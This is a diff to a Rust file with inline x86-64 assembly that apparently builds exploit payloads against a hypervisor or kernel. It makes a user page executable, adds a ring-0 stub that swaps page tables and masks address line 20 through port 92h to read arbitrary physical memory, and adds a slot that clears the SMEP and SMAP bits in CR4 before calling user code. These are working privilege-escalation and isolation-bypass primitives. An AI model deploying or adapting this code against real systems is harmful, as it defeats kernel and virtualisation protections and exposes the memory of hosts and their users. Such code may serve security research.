@@ -38,7 +38,7 @@ global_asm!(
     "   mov r8, rax",
     "   mov edi, {mapped}",
     "   mov esi, 4096",
-    "   mov edx, 3", //                        readable, writable
+    "   mov edx, 7", //                        readable, writable, executable
     "   mov r10d, 0x11", //                    shared, fixed
     "   mov r9, [rip + attack_loader]",
     "   mov eax, 9", //                        mmap
@@ -146,6 +146,51 @@ global_asm!(
     ran = const RAN,
 );
 
+// At CPL 0, called from the slot at its physical address, with interrupts off: reads eight bytes through own page tables
+// while address line 20 is masked, by the fast gate at port 92h.
+global_asm!(
+    ".pushsection .rodata.attack_a20, \"a\"",
+    "attack_a20:",
+    "   jmp 2f",
+    "   .org attack_a20 + 8",
+    "   .quad 0, 0", //                        CR3; address to read
+    "2: mov r13, cr3",
+    "   mov rbx, [rip + attack_a20 + 16]",
+    "   mov rax, [rip + attack_a20 + 8]",
+    "   mov cr3, rax",
+    "   in al, 0x92",
+    "   mov ah, al",
+    "   and al, 0xfd",
+    "   out 0x92, al",
+    "   mov rdx, [rbx]",
+    "   mov [rip + attack_a20 + {seen}], rdx",
+    "   mov al, ah",
+    "   out 0x92, al",
+    "   mov cr3, r13",
+    "   ret",
+    "   .balign 8, 0xcc",
+    "attack_a20_end:",
+    ".popsection",
+    seen = const A20_SEEN,
+);
+
+// A slot: calls the page at MAPPED, which is a user page.
+global_asm!(
+    ".pushsection .rodata.attack_call, \"a\"",
+    "attack_call:",
+    "   mov r15, cr4",
+    "   mov rax, r15",
+    "   btr rax, 20", //                       SMEP
+    "   btr rax, 21", //                       SMAP
+    "   mov cr4, rax",
+    "   mov eax, {mapped}",
+    "   call rax",
+    "   mov cr4, r15",
+    "attack_call_end:",
+    ".popsection",
+    mapped = const MAPPED,
+);
+
 unsafe extern "C" {
     safe static attack_signature: u8;
     safe static attack_signature_end: u8;
@@ -153,6 +198,10 @@ unsafe extern "C" {
     safe static attack_loader_end: u8;
     safe static attack_module: u8;
     safe static attack_module_end: u8;
+    safe static attack_a20: u8;
+    safe static attack_a20_end: u8;
+    safe static attack_call: u8;
+    safe static attack_call_end: u8;
 }
 
 /// Where a module's code finds the page of physical memory that the loader mapped.
@@ -211,6 +260,22 @@ pub fn hypercall(eax: u32, at: usize) -> Vec<u8> {
     code.extend(VMMCALL);
     code.extend([0xb8, 60, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05]); // mov eax, 60; xor edi, edi; syscall
     program(&code, mov)
+}
+
+/// Offset at which [`a20`] leaves what it read.
+pub const A20_SEEN: u64 = 0xff0;
+
+/// Code for the physical address `at`, with page tables a page above it, that reads `address` with address line 20 masked.
+pub fn a20(at: u64, address: u64) -> Vec<u8> {
+    let mut code = blob(&attack_a20, &attack_a20_end);
+    put(&mut code, 8, &(at + 0x1000).to_le_bytes());
+    put(&mut code, 16, &address.to_le_bytes());
+    code
+}
+
+/// A slot that calls what lies at [`MAPPED`].
+pub fn call_mapped() -> Vec<u8> {
+    blob(&attack_call, &attack_call_end)
 }
 
 /// VMMCALL.
